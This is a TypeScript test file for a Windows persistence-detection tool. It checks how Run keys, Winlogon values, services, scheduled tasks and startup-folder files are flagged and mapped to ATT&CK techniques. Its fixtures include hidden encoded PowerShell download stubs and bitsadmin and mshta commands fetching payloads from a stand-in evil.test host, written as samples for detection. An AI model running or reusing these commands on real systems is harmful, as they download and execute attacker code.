import t from 'tap'
import {analyze, loadRules} from '../../src/analyzers/index.js'
import type {Finding} from '../../src/model/finding.js'
import {fileCreate, regValue, serviceInstall, sysmonRegistry, taskEvent} from './fixtures/events.js'

const rules = loadRules()

/** Findings in the order of their evidence (line, then record). */
function byPlace(fs: Finding[]): Finding[] {
  const n = (f: Finding): number => f.evidence[0]!.line ?? f.evidence[0]!.record ?? 0
  return [...fs].sort((a, b) => n(a) - n(b))
}
const RUN = 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run'

t.test('Run values: suspicious, hidden, user-writable, plain and benign', async t => {
  const events = [
    regValue(3, {key: RUN, value: 'SecurityHealth', type: 'REG_EXPAND_SZ', data: '%windir%\\system32\\SecurityHealthSystray.exe'}),
    regValue(4, {key: RUN, value: 'VMware User Process', type: 'REG_SZ', data: '"C:\\Program Files\\VMware\\VMware Tools\\vmtoolsd.exe" -n vmusr'}),
    regValue(5, {key: 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', value: 'OneDrive', type: 'REG_SZ', data: '"C:\\Users\\ann\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /background'}),
    regValue(6, {key: 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', value: 'Updater', type: 'REG_SZ', data: 'powershell.exe -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA'}),
    regValue(7, {key: 'HKLM\\SOFTWARE\\WOW6432Node\\Microsoft\\Windows\\CurrentVersion\\RunOnce', value: 'x', type: 'REG_SZ', data: 'C:\\Users\\ann\\AppData\\Roaming\\x\\x.exe'}),
    regValue(8, {key: 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\Explorer\\Run', value: 'agent', type: 'REG_SZ', data: 'D:\\Apps\\agent.exe'}),
    regValue(9, {key: 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\x', value: 'DisplayName', data: 'cmd.exe /c evil'}),
    sysmonRegistry(306346, '2020-07-04T14:18:58.2687126Z', {key: RUN, value: '', operation: 'set', data: '"c:\\windows\\tasks\\taskhost.exe"'}, 'C:\\Users\\Public\\tools\\evasion\\a.exe'),
    regValue(10, {key: RUN, value: 'gone', operation: 'delete-value'}),
  ]
  const r = await analyze(events, {rules})
  t.same(byPlace(r.findings).map(f => [f.rule, f.severity, f.evidence[0]!.line ?? f.evidence[0]!.record]), [
    ['run-key-benign', 'info', 3],
    ['run-key-benign', 'info', 4],
    ['run-key-benign', 'info', 5],
    ['run-key-suspicious', 'high', 6],
    ['run-key-user-writable', 'medium', 7],
    ['run-key-value', 'low', 8],
    ['run-key-suspicious', 'high', 306346],
  ])
  const hidden = r.findings.find(f => f.evidence[0]!.record === 306346)!
  t.equal(hidden.fields?.alsoMatched, 'run-key-hidden-value,run-key-user-writable,run-key-value'.split(',').join(', '))
  t.same(hidden.techniques, ['T1547.001'])
  t.same(hidden.indicators.paths, ['c:\\users\\public\\tools\\evasion\\a.exe', 'c:\\windows\\tasks\\taskhost.exe'])
})

t.test('Winlogon Userinit and Shell', async t => {
  const key = 'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon'
  const r = await analyze([
    regValue(1, {key, value: 'Userinit', data: 'C:\\Windows\\system32\\userinit.exe,'}),
    regValue(2, {key, value: 'Shell', data: 'explorer.exe'}),
    regValue(3, {key, value: 'Userinit', data: 'C:\\Windows\\system32\\userinit.exe,C:\\Users\\Public\\u.exe'}),
    regValue(4, {key, value: 'Shell', data: 'explorer.exe, C:\\ProgramData\\s.exe'}),
  ], {rules})
  t.same(byPlace(r.findings).map(f => [f.rule, f.severity, f.techniques[0], f.evidence[0]!.line]), [
    ['winlogon-helper-changed', 'high', 'T1547.004', 3],
    ['winlogon-helper-changed', 'high', 'T1547.004', 4],
  ])
})

t.test('services from 7045, 4697 and the registry', async t => {
  const r = await analyze([
    serviceInstall(10446, '2019-05-12T12:52:43.702578Z', {name: 'WinPwnage', imagePath: "%COMSPEC% /c ping -n 1 127.0.0.1 >nul && echo 'WinPwnage' > \\\\.\\pipe\\WinPwnagePipe", account: 'LocalSystem'}),
    serviceInstall(2, '2024-01-01T00:00:00Z', {name: 'svc2', imagePath: 'C:\\Users\\bob\\AppData\\Local\\svc.exe'}, {eventId: 4697}),
    serviceInstall(3, '2024-01-01T00:00:01Z', {name: 'VMTools', imagePath: '"C:\\Program Files\\VMware\\VMware Tools\\vmtoolsd.exe"'}),
    serviceInstall(4, '2024-01-01T00:00:02Z', {name: 'mydrv', imagePath: '\\SystemRoot\\System32\\drivers\\mydrv.sys'}),
    serviceInstall(5, '2024-01-01T00:00:03Z', {name: 'agent', imagePath: 'D:\\agent\\agent.exe'}),
    regValue(6, {key: 'HKLM\\SYSTEM\\CurrentControlSet\\Services\\evil', value: 'ImagePath', type: 'REG_EXPAND_SZ', data: 'powershell -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA'}),
    regValue(7, {key: 'HKLM\\SYSTEM\\ControlSet001\\Services\\Tcpip', value: 'ImagePath', type: 'REG_EXPAND_SZ', data: 'System32\\drivers\\tcpip.sys'}),
  ], {rules})
  const services = byPlace(r.findings)
  t.same(services.map(f => [f.rule, f.severity, f.techniques[0]]), [
    ['service-install-user-writable', 'medium', 'T1543.003'],
    ['service-install-benign', 'info', 'T1543.003'],
    ['service-install-benign', 'info', 'T1543.003'],
    ['service-install', 'low', 'T1543.003'],
    ['service-imagepath-suspicious', 'high', 'T1543.003'],
    ['service-install-suspicious', 'high', 'T1543.003'],
  ])
  t.same(services[5]!.indicators.services, ['winpwnage'])
  t.same(services[4]!.indicators.services, ['evil'])
})

t.test('scheduled tasks', async t => {
  const cmdTask = {
    path: '\\CYAlyNSS',
    triggers: [{type: 'Calendar'}],
    principal: {id: 'LocalSystem', userId: 'S-1-5-18'},
    hidden: true,
    actions: [{type: 'exec' as const, command: 'cmd.exe', arguments: '/C tasklist > %windir%\\Temp\\CYAlyNSS.tmp 2>&1'}],
  }
  const r = await analyze([
    taskEvent(cmdTask, {eventId: 4698, record: 566836, time: '2019-03-19T00:02:04.3199452Z'}),
    taskEvent({path: '\\Updater', triggers: [{type: 'Logon'}], actions: [{type: 'exec', command: 'C:\\Windows\\System32\\bitsadmin.exe', arguments: '/transfer u https://evil.test/u.exe C:\\Users\\Public\\u.exe'}]}, {line: 3}),
    taskEvent({path: '\\Microsoft\\Windows\\Defrag\\ScheduledDefrag', triggers: [{type: 'Calendar'}], principal: {userId: 'S-1-5-18'}, hidden: true, actions: [{type: 'exec', command: '%windir%\\system32\\defrag.exe', arguments: '-c -h -o'}]}, {line: 4}),
    taskEvent({path: '\\Microsoft\\Windows\\Work Folders\\Maintenance', triggers: [{type: 'Logon'}], principal: {groupId: 'S-1-5-32-545'}, hidden: true, actions: [{type: 'exec', command: '%windir%\\system32\\rundll32.exe', arguments: 'workfolderssvc.dll,Maintenance'}]}, {line: 5}),
    taskEvent({path: '\\Vendor\\Updater', triggers: [{type: 'Calendar'}], actions: [{type: 'exec', command: 'C:\\Program Files\\Vendor\\update.exe'}]}, {line: 6}),
    taskEvent({path: '\\u', triggers: [{type: 'Boot'}], actions: [{type: 'exec', command: 'C:\\Users\\bob\\AppData\\Local\\u.exe'}]}, {line: 7}),
  ], {rules})
  t.same(byPlace(r.findings).map(f => [f.rule, f.severity, f.techniques, f.fields?.['task.path']]), [
    ['scheduled-task-bits', 'high', ['T1053.005', 'T1197'], '\\Updater'],
    ['scheduled-task', 'info', ['T1053.005'], '\\Microsoft\\Windows\\Defrag\\ScheduledDefrag'],
    ['scheduled-task', 'low', ['T1053.005'], '\\Microsoft\\Windows\\Work Folders\\Maintenance'],
    ['scheduled-task', 'info', ['T1053.005'], '\\Vendor\\Updater'],
    ['scheduled-task', 'high', ['T1053.005'], '\\u'],
    ['scheduled-task', 'high', ['T1053.005'], '\\CYAlyNSS'],
  ])
})

t.test('4698 without a parsed facet falls back to TaskContent', async t => {
  const xml = '<?xml version="1.0" encoding="UTF-16"?><Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><Triggers><LogonTrigger/></Triggers><Settings><Hidden>true</Hidden></Settings><Actions><Exec><Command>mshta.exe</Command><Arguments>http://evil.test/a.hta</Arguments></Exec></Actions></Task>'
  const r = await analyze([taskEvent({path: '\\x', triggers: [], actions: []}, {eventId: 4698, record: 1, time: '2024-01-01T00:00:00Z', data: {TaskName: '\\x', TaskContent: xml}})], {rules})
  t.same(r.findings.map(f => [f.rule, f.severity]), [['scheduled-task', 'high']])
  t.match(r.findings[0]!.fields?.reasons, /action lolbin, url, script: mshta\.exe http:\/\/evil\.test\/a\.hta; hidden task; Logon trigger/)
})

t.test('startup folder writes', async t => {
  const r = await analyze([
    fileCreate(549541, '2020-12-09T22:45:33.0908538Z', 'C:\\Users\\IEUser\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\onedrive.exe', 'System'),
    fileCreate(2, '2020-12-09T22:46:00Z', 'C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\Tool.lnk', 'C:\\Program Files\\Tool\\setup.exe'),
    fileCreate(3, '2020-12-09T22:47:00Z', 'C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\desktop.ini', 'C:\\Windows\\explorer.exe'),
    fileCreate(4, '2020-12-09T22:48:00Z', 'C:\\Users\\IEUser\\AppData\\Local\\Temp\\Fubuki.exe', 'C:\\Windows\\explorer.exe'),
  ], {rules})
  t.same(r.findings.map(f => [f.rule, f.severity, f.techniques[0], f.evidence[0]!.record]), [
    ['startup-folder-executable', 'medium', 'T1547.001', 549541],
    ['startup-folder-file', 'low', 'T1547.001', 2],
  ])
})

t.test('Defender and OS drivers are benign services; drivers from a desktop are not', async t => {
  const r = await analyze([
    serviceInstall(1, '2024-01-01T00:00:00Z', {name: 'MpKsl1bb57ead', imagePath: 'C:\\ProgramData\\Microsoft\\Windows Defender\\Definition Updates\\{972CA50B-64EC-45FC-A57E-68F894ED5B68}\\MpKsl1bb57ead.sys'}),
    serviceInstall(2, '2024-01-01T00:00:01Z', {name: 'vmci', imagePath: 'System32\\drivers\\vmci.sys'}),
    serviceInstall(3, '2024-01-01T00:00:02Z', {name: 'mnemosyne', imagePath: 'C:\\Users\\mpowers\\Desktop/Mnemosyne.sys'}),
    regValue(4, {key: 'HKLM\\SYSTEM\\ControlSet001\\Services\\MpKsl34afefd5', value: 'ImagePath', data: '\\??\\C:\\ProgramData\\Microsoft\\Windows Defender\\Definition Updates\\{9F21B1C2-64B5-46BA-B8AD-3748F06F0E0B}\\MpKsl34afefd5.sys'}),
    regValue(5, {key: 'HKLM\\SYSTEM\\CurrentControlSet\\Services\\syncagent', value: 'ImagePath', data: '"C:\\ProgramData\\SyncAgent\\agent.exe" -service'}),
  ], {rules})
  t.same(byPlace(r.findings).map(f => [f.rule, f.severity]), [
    ['service-install-benign', 'info'],
    ['service-install-benign', 'info'],
    ['service-install-user-writable', 'medium'],
    ['service-imagepath-user-writable', 'medium'],
  ])
})
